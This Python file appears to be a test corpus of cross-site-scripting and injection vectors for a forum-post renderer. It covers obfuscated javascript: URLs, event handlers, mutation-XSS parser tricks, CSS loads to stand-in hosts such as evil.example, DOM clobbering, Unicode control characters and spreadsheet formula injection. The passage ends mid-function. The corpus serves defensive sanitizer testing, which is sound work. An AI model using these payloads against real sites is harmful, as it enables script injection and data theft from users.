"""What a post can hold that wants to be more than a post: our own writing of every class of attack we know of.

In each vector «J» is what would run, «U» and «E» what would be loaded, «K» the word that a reader must still find (where
there is none, it precedes the vector). A vector that may swallow the following posts gets a page of its own.
"""

import re

RUNS = "window.pwned=1;console.log('PWNED')"
LOADS = "http://127.0.0.1:9/leak"
LOADS_ELSEWHERE = "//evil.example/leak"


def filled(vector: str, word: str) -> str:
    """A vector as it is in a page."""
    before, found, behind = vector.partition("«K»")
    # The content of elements that are removed completely does not have to be visible.
    text = vector if found and not GOES.search(before) else "«K» " + before + behind
    return text.replace("«J»", RUNS).replace("«U»", LOADS).replace("«E»", LOADS_ELSEWHERE).replace("«K»", word)


GOES = re.compile(r"<(svg|math|video|audio|object|applet|select|option|optgroup|button|dialog|style|noscript|script|template|textarea"
                  r"|colgroup|title|iframe|noembed|noframes|xmp|canvas)\b", re.I)


def needs_own_page(vector: str) -> bool:
    """Whether it closes or opens what the page around it is made of, or a text that only its own end tag ends."""
    return bool(re.search(
        r"</?(table|tbody|thead|tr|td|th|caption|col|html|head|body|form|frameset|plaintext|script|style|textarea|title|xmp|noscript"
        r"|iframe|noembed|noframes|template|select|svg|math|object|dl|dt|dd|ul|div|p|button)\b|<!--|<!\[|<\?|<!doctype|<\w+[^>]*$",
        vector, re.I))


EVENTS = """onload onerror onclick onmouseover onmouseout onfocus onblur onfocusin onanimationstart onanimationend ontransitionend
    ontoggle onbeforetoggle onscroll onscrollend onwheel onpointerenter onpointerover onpointerrawupdate onkeydown onbeforeinput
    onpaste oncopy onbegin onend onrepeat onstart onfinish onbounce onpageshow onhashchange onpopstate onresize onmessage
    onunload onbeforeunload onsubmit onreset oninvalid oninput onchange onselect onselectstart ondrag ondrop onplay oncanplay
    onloadstart onloadeddata ondurationchange onratechange oncuechange onafterprint onsecuritypolicyviolation onauxclick
    oncontextmenu ongotpointercapture onwebkitanimationend onwebkittransitionend onwebkitmouseforcechanged
    oncontentvisibilityautostatechange onreadystatechange onformdata onslotchange""".split()
ADDRESSES = [
    "javascript:«J»", "JaVaScRiPt:«J»", " javascript:«J»", "\tjavascript:«J»", "java\tscript:«J»", "java\nscript:«J»", "java\rscript:«J»",
    "java&Tab;script:«J»", "java&NewLine;script:«J»", "javascript&colon;«J»", "javascript&#58;«J»", "javascript&#x3a;«J»",
    "javascript&#0000058«J»", "&#106;avascript:«J»", "&#x6A;&#x61;vascript:«J»", "&#14;javascript:«J»", "&#1;javascript:«J»",
    "&#8232;javascript:«J»", "&#160;javascript:«J»", "&#8203;javascript:«J»", "&#65279;javascript:«J»", "javascript&#65306;«J»",
    "java\u0000script:«J»", "java&#0;script:«J»", "\u212Aavascript:«J»", "java\u017Fcript:«J»", "javascript://%0a«J»",
    "javascript:/*--></title></style></textarea></script><svg/onload=«J»>*/«J»", "javascript:javascript:«J»", "feed:javascript:«J»",
    "view-source:javascript:«J»", "jar:javascript:«J»", "x:javascript:«J»", "vbscript:«J»", "livescript:«J»", "mocha:«J»",
    "data:text/html,<script>«J»</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=«J» xmlns='http://www.w3.org/2000/svg'/>", "data:,x", "data:text/javascript,«J»",
    "blob:https://evil.example/1", "filesystem:https://evil.example/1", "file:///etc/passwd", "file://evil.example/share",
    "view-source:file:///etc/passwd", "chrome://settings", "about:blank", "about:srcdoc", "intent://x#Intent;scheme=javascript;end",
    "ms-settings:", "search-ms:query=x", "steam://run/1", "ftp://evil.example/", "ws://evil.example/", "tel:1", "sms:1", "cid:1", "urn:x",
    r"\\evil.example\share", r"/\evil.example", r"\/evil.example", "///evil.example", "////evil.example", "«E»", "«U»",
    "https:evil.example", "https:/evil.example", "http:\\\\evil.example", "https://forums.somethingawful.com@evil.example/",
    "https://forums.somethingawful.com:x@evil.example/", "https://evil.example\\@forums.somethingawful.com/", "https://a@b@evil.example/",
    "http://[::1]/", "http://0x7f000001:9/", "http://127.1:9/", "http://evil.example:99999/", "http://evil.example:/", "http://evil。example/",
    "http://ev%69l.example/", "http://evil.example%00.org/", "http://xn--/", "http://ex ample/", "http://\u202eelpmaxe.live/",
    "../search/index.js", "script/site.js", "../../index.html", "x/evil.png", "#p1", "#", "?q=1", "1.html#p1", "./1.html", "//", "", " ",
    "index.php/../../../x", "javascript.php:«J»", "x.php\" onmouseover=\"«J»", "mailto:a@b.example?subject=x%0d%0aBcc:c@d.example",
    "mailto:a@b.example\" onclick=\"«J»", "mailto:javascript:«J»", "showthread.php?goto=post&postid=1' onclick='«J»", "/%2e%2e/x", "a" * 8200,
    "https://evil.example/" + "%" * 3000, "https://evil.example/?" + "&amp;" * 1000,
]
RAW_TEXT = "script style textarea title xmp noscript iframe noembed noframes plaintext template listing comment".split()
FOREIGN_ENTRIES = "mi mo mn ms mtext annotation-xml foreignObject desc title".split()
BREAKOUTS = "b big blockquote body br center code dd div dl dt em embed h1 head hr i img li listing menu meta nobr ol p pre ruby s small span strong strike sub sup table tt u ul var font".split()
REMOTE = [
    "<img src=«U»>", "<img srcset='«U» 1x, «E» 2x'>", "<img src=x srcset=«E»>", "<img lowsrc=«U» dynsrc=«U»>", "<img longdesc=«U» src=«E»>",
    "<picture><source srcset=«U»><img src=«E»></picture>", "<video poster=«U» src=«E» autoplay></video>", "<video><source src=«U»><track src=«E» default></video>",
    "<audio src=«U» autoplay></audio>", "<audio><source src=«U»></audio>", "<object data=«U»></object>", "<object classid=«U» codebase=«E»></object>",
    "<embed src=«U»>", "<embed code=«U» type=text/html>", "<applet code=«U» archive=«E»></applet>", "<iframe src=«U»></iframe>", "<frameset><frame src=«U»></frameset>",
    "<bgsound src=«U»>", "<image src=«U»>", "<image xlink:href=«U»>", "<input type=image src=«U»>", "<body background=«U»>", "<table background=«U»><tr><td background=«E»>«K»</table>",
    "<div background=«U»>«K»</div>", "<svg><image href=«U» xlink:href=«E» /></svg>", "<svg><use href='«U»#x'/></svg>", "<svg><feImage href=«U» /></svg>",
    "<svg><style>@import url(«U»)</style></svg>", "<math href=«U»><mi>x</math>", "<link rel=stylesheet href=«U»>", "<link rel=prefetch href=«U»>", "<link rel=preload as=script href=«U»>",
    "<link rel=dns-prefetch href=«E»>", "<link rel=preconnect href=«U»>", "<link rel=prerender href=«U»>", "<link rel=modulepreload href=«U»>", "<link rel=icon href=«U»>", "<link rel=manifest href=«U»>",
    "<a href=«U» ping=«E»>«K»</a>", "<a href=«U» attributionsrc=«E» target=_top download rel=opener>«K»</a>", "<script src=«U»></script>", "<script type=module>import '«U»'</script>",
    "<script type=importmap>{\"imports\":{\"x\":\"«U»\"}}</script>", "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"«U»\"]}]}</script>",
    "<style>@import '«U»';</style>", "<style>*{background:url(«U»)}</style>", "<p style=\"background:url('«U»')\">«K»</p>", "<portal src=«U»></portal>", "<fencedframe src=«U»></fencedframe>",
    "<xml src=«U» id=x></xml>", "<html manifest=«U»>", "<layer src=«U»></layer>", "<ilayer src=«U»></ilayer>", "<img src=//evil.example/leak.png class=timg>", "<img src=«U» class=avatar usemap=#m>",
    "<img src='http://127.0.0.1:9/emoticons/x.gif' title='«K»'>", "<menuitem icon=«U»>", "<isindex action=«U» prompt=x>", "<video src=«U» controls class=img></video>", "<marquee loop=1 width=0 onfinish=«J» src=«U»>«K»</marquee>",
]
FORMS = [
    "<meta http-equiv=refresh content='0;url=«U»'>", "<meta http-equiv=refresh content='0;javascript:«J»'>", "<meta http-equiv=refresh content='0;url=data:text/html,<script>«J»</script>'>",
    "<meta http-equiv=set-cookie content=x=1>", "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<meta charset=utf-7>+ADw-script+AD4-", "<meta name=referrer content=unsafe-url>",
    "<base href=«E»>", "<base target=_top>", "<form action=«U» id=f><input name=x><input type=submit value=Login></form>", "<form action=javascript:«J»><button>go</button></form>",
    "<button form=f formaction=«U»>«K»</button>", "<button formaction=javascript:«J» type=submit>x</button>", "<input type=submit formaction=«U» value=x>", "<input autofocus onfocus=«J»>", "<select autofocus onfocus=«J»><option>x</select>",
    "<textarea autofocus onfocus=«J»>x</textarea>", "<keygen autofocus onfocus=«J»>", "<input type=password name=password>", "<input type=hidden popover id=x onbeforetoggle=«J»>", "<details open ontoggle=«J»><summary>«K»</summary>x</details>",
    "<dialog open onclose=«J»>«K»<form method=dialog><button>x</button></form></dialog>", "<button popovertarget=x>«K»</button>", "<label for=q>«K»</label>", "<fieldset form=search-form>«K»</fieldset>", "<output form=search-form name=submit>«K»</output>",
    "<div contenteditable autofocus onfocus=«J»>«K»</div>", "<a tabindex=1 autofocus onfocus=«J» href=#>«K»</a>", "<b accesskey=x onclick=«J»>«K»</b>", "<b draggable=true ondragstart=«J»>«K»</b>", "<b is=x-y>«K»</b>", "<b slot=x part=y>«K»</b>", "<b hidden=until-found>«K»</b>", "<b inert>«K»</b>",
]
STYLES = [
    "position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:99999", "background:url(«U»)", "background:u\\72l(«U»)", "background-image:image-set('«U»' 1x)", "list-style:url(«U»)", "cursor:url(«U»),auto", "content:url(«U»)",
    "border-image:url(«U»)", "filter:url(«U»#x)", "mask:url(«U»)", "clip-path:url(«U»#x)", "shape-outside:url(«U»)", "src:url(«U»)", "width:expression(«J»)", "width:exp/**/ression(«J»)", "xss:expr\\65 ssion(«J»)", "-moz-binding:url(«U»#x)",
    "behavior:url(«U»)", "background:url(javascript:«J»)", "background:url(&#106;avascript:«J»)", "color:red;background:url(«U»)", "color:url(«U»)", "color:expression(«J»)", "color:red}*{background:url(«U»)", "color:#fff;x:</style><script>«J»</script>",
    "color:red\" onmouseover=\"«J»", "color:\\72 ed", "color:/*x*/red", "color:var(--x,url(«U»))", "color:attr(href url)", "color:rgb(1,2,3)", "color:transparent", "color:inherit;font-size:900px", "color:#00000000", "COLOR:ReD!important", "co\\6cor:red", "--x:url(«U»);color:var(--x)",
    "animation:x 1s;color:red", "transform:scale(99)", "display:none", "visibility:hidden", "opacity:0", "font-size:0", "line-height:0;overflow:hidden", "float:left;margin:-9999px", "color:" + "red" * 500, "{", "}", ";" * 900, "color:red;" * 99, "@import '«U»'", "color: #12", "color:#gggggg", "color:ｒｅｄ", "color:\u0000red",
]
SHEETS = [
    "<style>«K»{}*{color:red}</style>", "<style>@import '«U»';</style>", "<style>@\\69mport '«U»';</style>", "<style><!--</style><img src=x onerror=«J»>--></style>", "<style>*{x:expression(«J»)}</style>", "<style>a[href^=h]{background:url(«U»?h)}</style>",
    "<style>@font-face{font-family:x;src:url(«U»)}body{font-family:x}</style>", "<style>@namespace url(«U»)</style>", "<style>@keyframes x{}</style><b style='animation:x' onanimationstart=«J»>«K»</b>", "<style>:root{--light:url(«U»)}</style>", "<style type=text/x><script>«J»</script></style>",
    "<style/onload=«J»>", "<style onload=«J»></style>", "<style>\u003c/style/><img src=x onerror=«J»></style>", "<style>/*</style>*/<b onclick=«J»>«K»</b>", "<style media='«U»'></style>", "<style></style ><script>«J»</script>", "<xss><style>x</xss></style>«K»",
]
MUTATIONS = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=«J»&gt;">', "<form><math><mtext></form><form><mglyph><style></math><img src onerror=«J»>", '<svg></p><style><a id="</style><img src=1 onerror=«J»>">',
    "<math><mtext><table><mglyph><style><math><table id=\"</table>\"><img src onerror=«J»\">", "<svg><desc><noscript></desc></svg><p title=\"</noscript><img src=x onerror=«J»>\">", "<noscript><p title=\"</noscript><img src=x onerror=«J»>\">«K»",
    "<math><annotation-xml encoding=\"text/html\"><style></math><img src=x onerror=«J»></style>", "<math><annotation-xml encoding='application/xhtml+xml'><b><svg><mtext><script>«J»</script>", "<svg><foreignObject><math><mi><table><p><style><!--</p><img src=x onerror=«J»>-->",
    "<svg><title><style><!--</title><img src=x onerror=«J»>--></style>", "<svg><desc><b><style><a title=\"</style><img src=x onerror=«J»>\">", "<math><mi//xlink:href=\"data:x,<script>«J»</script>\">", "<a><svg><p><a title='</a><img src onerror=«J»>'>",
    "<table><a href=1><tr><td><a href=2><style><!--</style></a><img src=x onerror=«J»>-->", "<select><template><style><!--</select><img src=x onerror=«J»>-->", "<select><noembed></select><script x='a@b'a>«J»<!--</noembed>--></script>", "<template><style></template><img src=x onerror=«J»></style>",
    "<xmp><p title=\"</xmp><svg/onload=«J»>\">", "<title><p title=\"</title><svg/onload=«J»>\">", "<textarea><p title=\"</textarea><svg/onload=«J»>\">", "<iframe><p title=\"</iframe><svg/onload=«J»>\"></iframe>", "<noembed><p title=\"</noembed><svg/onload=«J»>\"></noembed>", "<noframes><p title=\"</noframes><svg/onload=«J»>\"></noframes>",
    "<p title=\"&lt;/style&gt;&lt;img src=x onerror=«J»&gt;\">«K»</p>", "<b title=\"`\"><script>«J»</script>`\">«K»</b>", "<img alt=\"``onerror=«J» src=x\">", "<img alt='x\" onerror=\"«J»' src=x>", "<a href=\"&quot;&gt;&lt;img src=x onerror=«J»&gt;\">«K»</a>", "<img src=\"x` `\"` onerror=«J»\">",
    "<listing>&lt;img src=x onerror=«J»&gt;</listing>", "<pre>\n\n&lt;img src=x onerror=«J»&gt;</pre>", "<listing>\n\n&lt;b onclick=«J»&gt;</listing>", "<plaintext>&lt;/plaintext&gt;<img src=x onerror=«J»>", "<comment><img src=\"</comment><img src=x onerror=«J»//\">", "<!--><img src=x onerror=«J»>-->", "<!---><img src=x onerror=«J»>-->",
    "<!-- --!><img src=x onerror=«J»> -->", "<!--<!--><img src=x onerror=«J»>-->", "<!-- <!-- --><img src=x onerror=«J»> -->", "<!--<img src=\"--><img src=x onerror=«J»//\">", "<!- ><img src=x onerror=«J»> ->", "<![CDATA[<img src=x onerror=«J»>]]>", "<svg><![CDATA[><img src=x onerror=«J»>]]></svg>", "<math><![CDATA[</math><img src=x onerror=«J»>]]>",
    "<?php echo '<img src=x onerror=«J»>' ?>", "<?xml version=\"1.0\"?><?xml-stylesheet href=\"javascript:«J»\"?>", "<!DOCTYPE x [<!ENTITY x \"<img src=x onerror=«J»>\">]>&x;", "<!ELEMENT x><img src=x onerror=«J»>", "<!ATTLIST b onclick CDATA '«J»'>", "<//script><img src=x onerror=«J»>", "</ script><img/src=x/onerror=«J»>", "</<img src=x onerror=«J»>>",
    "<%<img src=x onerror=«J»>%>", "<$<b onclick=«J»>«K»</b>", "<x/><script>«J»</script>", "<img onerror=«J»<b src=x>", "<d/<img src=x onerror=«J»>", "<svg><a xlink:href=javascript:«J»><text>x</text></a></svg>", "<svg><animate attributeName=href values=javascript:«J» /><a id=x>x</a></svg>", "<svg><set attributeName=onmouseover to=«J»>",
    "<svg><script>«J»</script></svg>", "<svg><script href=data:,«J» />", "<svg><script>&lt;!--</script>-->«J»</svg>", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:«J»'/></svg>#x\" />", "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>«J»</handler></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload=«J»>", "<svg:svg onload=«J»>«K»</svg:svg>", "<html:script>«J»</html:script>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>«J»</x:script>", "<math><maction actiontype=statusline xlink:href=javascript:«J»>x</maction></math>", "<math><mtext><img src=x onerror=«J»></mtext></math>",
    "<math><mtext></p><style><img src=x onerror=«J»></style></math>", "<ruby><rt><rp><svg><p onclick=«J»>", "<b><p><table><b><a><tr><p><style>x</style><img src=x onerror=«J»>", "<frameset onload=«J»>", "<body onload=«J»>«K»", "<html onclick=«J»>«K»", "<head><script>«J»</script></head>", "<isindex type=image src=1 onerror=«J»>",
    "<template shadowrootmode=open><img src=x onerror=«J»></template>", "<div><template shadowrootmode=open><slot></slot><script>«J»</script></template>«K»</div>", "<object><param name=movie value=javascript:«J»></object>", "<embed src=javascript:«J»>", "<iframe src=javascript:«J»></iframe>", "<iframe srcdoc='<script>parent.«J»</script>'></iframe>", "<iframe class=youtube-player src='https://www.youtube.com/embed/x\"onload=«J»'></iframe>",
    "<iframe src='https://www.youtube.com@evil.example/embed/abcdefgh'></iframe>", "<iframe src='//www.youtube.com/embed/../../redirect?q=«U»'></iframe>", "<iframe src=data:text/html,<script>parent.«J»</script>></iframe>", "<object data='data:text/html,<script>«J»</script>'></object>", "<object type=text/x-scriptlet data=«U»></object>", "<video src=x onerror=«J»></video>", "<video><source onerror=«J»></video>", "<audio src=x onerror=«J»>",
]
TAGS = [
    "<script>«J»</script>", "<SCRIPT>«J»</SCRIPT>", "<ScRiPt>«J»</sCrIpT>", "<script/x>«J»</script>", "<script\n>«J»</script\n>", "<script\t/>«J»</script>", "<script\f>«J»</script\f>", "<script\u0000>«J»</script>", "<scr\u0000ipt>«J»</script>", "<<script>«J»//<</script>", "<script>«J»</script", "<script", "<script>«J»", "<script src=data:,«J»></script>",
    "<scr<script>ipt>«J»</scr</script>ipt>", "<script><!--«J»//--></script>", "<script><!--<script></script>«J»</script>", "<script type=text/template><img src=x onerror=«J»></script>", "<script language=vbscript>x</script>", "<script for=window event=onload>«J»</script>", "<script nomodule>«J»</script>", "<script async defer>«J»</script>", "<script>/*</script>*/<b>«K»</b>",
    '<img """><script>«J»</script>">', "<img src=x onerror=«J»>", "<img/src=x/onerror=«J»>", "<img src=x\nonerror\n=\n«J»>", "<img src=x onerror=\"«J»\"", "<img src=\"x\"onerror=\"«J»\">", "<img src='x'onerror='«J»'>", "<img src=`x`onerror=`«J»`>", "<img src=x onerror=&#119;indow.pwned=1>", "<img src=x OnErRoR=«J»>", "<img src=x on\u0000error=«J»>",
    "<img src=x \u000bonerror=«J»>", "<img src=x \u000conerror=«J»>", "<img src=x \u00a0onerror=«J»>", "<img src=x /onerror=«J»>", "<img src=x =onerror=«J»>", "<img src=x \"onerror=«J»>", "<img src=x 'onerror=«J»>", "<img src=x <onerror=«J»>", "<img src=x x>onerror=«J»>", "<img src=x onerror =«J»>", "<img src=x xmlns:onerror=«J»>", "<img src=x data-x onerror=«J»>", "<img id=x onerror=«J» src>",
    "<img src=1 src=2 onerror=«J» onerror=2>", "<img src=\"x\" title=\">\" onerror=«J»>", "<imgsrc=x onerror=«J»>", "<img\u0085src=x onerror=«J»>", "<img\u2028src=x onerror=«J»>", "<img\u00a0src=x onerror=«J»>", "<\u0069mg src=x onerror=«J»>", "＜script＞«J»＜/script＞", "<\u017Fcript>«J»</\u017Fcript>", "<scr\u0131pt>«J»</scr\u0131pt>", "<İmg src=x onerror=«J»>", "< script>«J»</script>", "<\tscript>«J»</script>",
    "<a onclick=«J»>«K»</a>", "<x onclick=«J»>«K»</x>", "<x-y onclick=«J»>«K»</x-y>", "<a:b onclick=«J»>«K»</a:b>", "<size:8 onclick=«J»>«K»</size:8>", "<1 onclick=«J»>«K»</1>", "<é onclick=«J»>«K»</é>", "<b/onclick=«J»>«K»</b>", "<b onclick='«J»'>«K»</b>", "<marquee onstart=«J»>«K»</marquee>", "<blink onclick=«J»>«K»</blink>", "<b onclick\u0000=«J»>«K»</b>", "<b \u0000onclick=«J»>«K»</b>",
    "<q cite=javascript:«J»>«K»</q>", "<blockquote cite=javascript:«J»>«K»</blockquote>", "<del cite=javascript:«J»>«K»</del>", "<b/ / / onclick=«J» / >«K»</b>", "<b a='&#39;' onclick=«J»>«K»</b>", "&lt;script&gt;«J»&lt;/script&gt;", "&amp;lt;script&amp;gt;«J»&amp;lt;/script&amp;gt;", "&#60;script&#62;«J»&#60;/script&#62;", "&#x3c;img src=x onerror=«J»&#x3e;", "&LT;img src=x onerror=«J»&GT;",
    "&ltimg src=x onerror=«J»&gt", "&#0000000000000060;script&#62;", "&#x0000003cscript>", "%3Cscript%3E«J»%3C/script%3E", "\\u003cscript\\u003e«J»\\u003c/script\\u003e", "+ADw-script+AD4-«J»+ADw-/script+AD4-", "¼script¾«J»¼/script¾", "{{constructor.constructor('«J»')()}}", "${«J»}", "<%= «J» %>", "#{«J»}", "{% raw %}", "[[«J»]]", "javascript:«J»",
]
CONSTRUCTION = [
    "<b><i>«K»</b>x</i>", "<a><p>«K»</a>x</p>", "<b>1<p>2</b>«K»</p>", "<a href=http://a.example/>1<a href=http://b.example/>«K»</a></a>", "<a href=http://a.example/><div><a href=http://b.example/>«K»</a></div></a>", "<nobr>1<nobr>«K»", "<b><b><b><b><b>«K»</b></b></b></b></b>", "<font><p><font>«K»</font></p></font>", "</p>«K»", "</br>«K»", "<p><p>«K»", "<h1><h2>«K»</h1></h2>",
    "<li>«K»<li>x", "<dd>1<dt>«K»<dd>x", "<ul><ul><li>«K»</ul></li></ul>", "<ol start=-5><li value=9>«K»</ol>", "<ol start=99999999999><li>«K»</ol>", "<table>«K»<tr><td>x</table>", "<table><tr>«K»<td>x</tr></table>", "<table><b>1<tr><td>«K»</b></table>", "<table><td>1<th>«K»</table>", "<table><table><tr><td>«K»</table></table>", "<table><tr><td><table><tr><td>«K»</table></table>",
    "<table><caption>«K»<tr><td>x</table>", "<table><colgroup>«K»<col></table>", "<table><tr><td colspan=999999 rowspan=999999>«K»</table>", "<table><form><input><tr><td>«K»</form></table>", "<table><select><tr><td>«K»</select></table>", "<table><input type=hidden><tr><td>«K»</table>", "<table><a>1<a>2<tr><td>«K»</a></table>", "<tr><td>«K»", "<td>«K»</td>", "</td>«K»", "</tr></table>«K»", "</td></tr></table></div>«K»",
    "</body></html>«K»", "<tbody>«K»</tbody>", "<select><option>1<optgroup>«K»</select>x", "<select><select>«K»", "<select><b>«K»</b></select>", "<button><button>«K»</button></button>", "<form><form>«K»</form></form>", "<pre>\n«K»</pre>", "<pre>\n\n«K»</pre>", "<pre>\r\n\r\n«K»</pre>", "<pre><div>\n«K»</div></pre>", "<pre><b>\n\n«K»</b></pre>", "<pre><pre>«K»</pre></pre>", "<listing>\n\n«K»</listing>", "<div class=code><code>\n\n«K»</code></div>",
    "<ruby>1<rb>2<rt>«K»<rp>(</ruby>", "<optgroup><option>«K»", "<frameset><frame></frameset>«K»", "<head>«K»</head>", "<title>x</title>«K»", "<html><body>«K»", "<address>1<p>«K»</address>x", "<center><b>1</center>«K»</b>", "<dir><li>«K»</dir>", "<menu><li>«K»<menuitem>x</menu>", "<object><b>«K»</object></b>", "<marquee><b>«K»</marquee></b>", "<applet><b>«K»</applet></b>", "<nobr><table><tr><td><nobr>«K»</table>",
    "<b><table><tr><td></b>«K»</table>", "<i><p>1</i>2<b>3</p>«K»</b>", "<s><ul><li>1</s><li>«K»</ul>", "<a href=http://a.example/><table><tr><td><a href=http://b.example/>«K»</table></a>", "<div><span></div>«K»</span>", "<span><div><p>«K»</span></div>", "<p><table><tr><td><p>«K»</table>", "<image src=x alt='«K»'>", "<img/><br/><hr/>«K»", "<br></br><hr></hr>«K»", "<wbr>«K»<wbr/>", "<b/>«K»<i/>", "<div/><p/>«K»",
    "<blockquote><h4><ul><li><pre><table><tr><td>«K»", "<h4><h4><h4>«K»", "<dl><dt><dl><dd>«K»</dl></dl>", "<ul><table><tr><td><li>«K»</table></ul>", "<ol><tr><td><li>«K»</ol>", "<li><tr><li><td>«K»", "<pre><ul><li><table><tr><td>«K»</pre>", "<code><div><pre>«K»</code></pre>", "<sub><sup><sub>«K»", "<small><big><small>«K»", "<kbd><tt><code>«K»", "<u>1</b>2</i>3</u>«K»", "</a></b></div></span>«K»", "<a>«K»", "<a name=x>«K»</a>",
]
CLOBBERING = [
    f"<{tag} {attribute}={name}>«K»</{tag}>" for tag, attribute, name in [
        ("a", "id", "location"), ("a", "name", "location"), ("b", "id", "p900100001"), ("b", "id", "a900100001"), ("b", "id", "q"), ("b", "id", "results"), ("b", "id", "status"), ("b", "id", "search-form"), ("b", "id", "theme"), ("b", "id", "main"),
        ("b", "id", "AwfulSearch"), ("b", "id", "__proto__"), ("b", "id", "constructor"), ("form", "name", "cookie"), ("form", "id", "body"), ("form", "name", "getElementById"), ("form", "name", "querySelector"), ("b", "id", "quick"), ("a", "id", "document"), ("b", "id", "hasOwnProperty")]
] + ["<form id=head><input name=children></form>", "<img name=cookie src=x>", "<img id=documentElement src=x>", "<iframe name=self></iframe>", "<a id=x><a id=x name=y href=javascript:«J»>", "<object id=scripts></object>", "<embed name=currentScript>", "<map name=m><area shape=default href=javascript:«J»></map><img usemap=#m src=x>"]
BORROWED = [f'<div class="{name}">«K»</div>' for name in
            "site-head tools post is-op is-missing post-head author badges badge note pager breadcrumbs results excerpt visually-hidden skip keys no-script problem revealed full local external post-foot permalink original history version user-title registered body js post-main".split()] \
    + [f'<span class="{name}">«K»</span>' for name in "c-123456 c-zzzzzz c-1234567 bbcf-huge bbcf-x-large bbc-spoiler admin-toolbar c-fff-fff local revealed".split()] \
    + [f'<a class="{name}" href="http://a.example/">«K»</a>' for name in "local permalink original skip first next previous last jump near quote_link embed".split()] \
    + ['<article class=post id=p900100001>«K»</article>', '<nav class=pager><ul><li><a class=next href="http://a.example/">«K»</a></ul></nav>', '<header class=site-head>«K»</header>', '<main id=main>«K»</main>', '<dialog class=keys open>«K»</dialog>', '<time datetime=x>«K»</time>', '<b class="bbc-spoiler c-000000 x">«K»</b>',
       '<div class="bbc-block"><h4><a class="quote_link" href="javascript:«J»">«K» posted:</a></h4><blockquote onclick=«J»>x</blockquote></div>', '<div class="bbc-block code"><h5>code:</h5><code><script>«J»</script>«K»</code></div>', '<div class="bbc-block php"><h5>php:</h5><code><b>«K»</b></code></div>',
       '<span class="bbc-spoiler" onmouseover="«J»" style="position:fixed">«K»</span>', '<span class="bbc-spoiler"><span class="bbc-spoiler">«K»</span></span>', '<span class="c-ff0000 c-00ff00 bbc-spoiler bbcf-large">«K»</span>', '<font color="red" face="«U»" size=99>«K»</font>', "<font color='\"><script>«J»</script>'>«K»</font>", '<p class="editedby"><span onclick=«J»>«K» fucked around</span></p>']
UNICODE = [
    "\u202e«K»\u202c", "\u2066«K»", "\u202egpj.«K»\u202c.exe", "«K»\u2028<script>«J»</script>", "«K»\u2029x", "«K»\u0085x", "«K»\u0000x", "«K»\u0001\u0002\u001b[31mx", "«K»\u001b]52;c;x\u0007", "«K»\u0008\u0008", "«K»\u007f", "«K»\u009b31m", "«K»\ufffe\uffff", "«K»\ufdd0", "«K»\ufeff", "\u200b«K»\u200b", "«K»" + "\u0301" * 300,
    "«K» \U0001f468\u200d\U0001f469", "«K» &#xD800;&#xDFFF;", "«K» &#x110000;", "«K» &#0;", "«K» &#128;&#159;", "«K» &#13;&#10;", "«K» &#x1F4A9;", "«K» &nosuch; &amp &ampx; &notit; &not", "«K» &" + "a" * 4000, "«K» &#" + "9" * 500 + ";", "«K» &NotEqualTilde; &fjlig; &NewLine;&Tab;", "<b title='\u0000'>«K»</b>", "<\u0000b>«K»", "«K»\u00a0\u00a0", "«K» \ue000",
    "«K» </script>", "«K» ]]>", "«K» -->", "«K» --!>", "«K» <!-", "«K» \r\r\n\n\r", "«K» \x0b\x0c", "«K» ﷽" * 1, "«K» ＜b＞", "«K» ‹script›",
]
TEXTS_OF_FORMATS = [
    "<br>From nobody@example.org Thu Jan  1 00:00:00 1970<br>«K»", "<pre>\nFrom x Thu Jan  1 00:00:00 1970\nSubject: «K»\n\nFrom y\n&gt;From z\n&gt;&gt;From q\n.\n</pre>", "From «K» x", "<pre>\n\nFrom: «K»\nContent-Type: text/html\n\n&lt;script&gt;«J»&lt;/script&gt;</pre>", "<pre>--boundary\nContent-Type: text/html\n\n«K»</pre>",
    "=cmd|' /C calc'!A0 «K»", "+1+1 «K»", "-1 «K»", "@SUM(1+1) «K»", "\t=1+1 «K»", "=HYPERLINK(\"«U»\",\"«K»\")", "\"«K»\",\"x\"\n=1", "=1+1;«K»", "«K»,\";'|",
    "# «K»", "* «K»", "1. «K»", "&gt; «K»", "    «K»", "[«K»](javascript:«J»)", "![«K»](«U»)", "[«K»]: «U»", "[x][«K»]", "&lt;«U»&gt; «K»", "`&lt;b&gt;` «K»", "```\n«K»\n```", "```&lt;script&gt;«J»&lt;/script&gt; «K»", "«K»\n===", "«K»\n---", "---<br>title: «K»<br>---", "|«K»|x|<br>|---|---|", "\\&lt;script&gt;«J» «K»", "**«K»**", "__«K»__ ~~x~~ ==y==",
    "&lt;!-- «K» --&gt;", "«K»\\", "«K»  <br>x", "[^«K»]: x", "$«K»$ $$x$$", ":::«K»", "{{&lt; x &gt;}} «K»", "&amp;lt;script&amp;gt; «K»", "&amp;#60;script&amp;#62; «K»", "&amp;colon; [«K»](javascript&amp;colon;«J»)", "<code>`«K»`</code>", "<code>``&lt;/code&gt;«K»</code>", "<pre>```\n&lt;script&gt;«J»&lt;/script&gt; «K»</pre>", "<pre>~~~\n«K»\n~~~</pre>",
    "<a href='http://a.example/)[x](javascript:«J»'>«K»</a>", "<a href='http://a.example/&lt;script&gt;'>«K» ](javascript:«J»)</a>", "<img src='http://a.example/x.png' alt='«K» ](javascript:«J»)'>", "<img src='http://a.example/x.png' title='\" onerror=«J»' alt='«K»'>", "<h1># «K»</h1>", "<ul><li># «K»</li><li>+ x</li></ul>", "<b>*«K»*</b>", "<b> «K» </b>", "<a href='http://a.example/'>[«K»]</a>", "www.evil.example «K»", "http://evil.example/_x_ «K»",
    "{\"x\":\"«K»\"}", "\\\"}]}; «K»", "\\u2028 «K»", "<div><pre>«K»\n\n\n</pre></div>", "=?utf-8?q?«K»?=", "«K»" + " x" * 700, "«K» " + "x" * 3000,
]


def generated() -> dict[str, list[str]]:
    """Vectors that follow from lists."""
    classes: dict[str, list[str]] = {"event handlers": [], "addresses": [], "raw text": [], "foreign content": [], "size and depth": []}
    for index, event in enumerate(EVENTS):
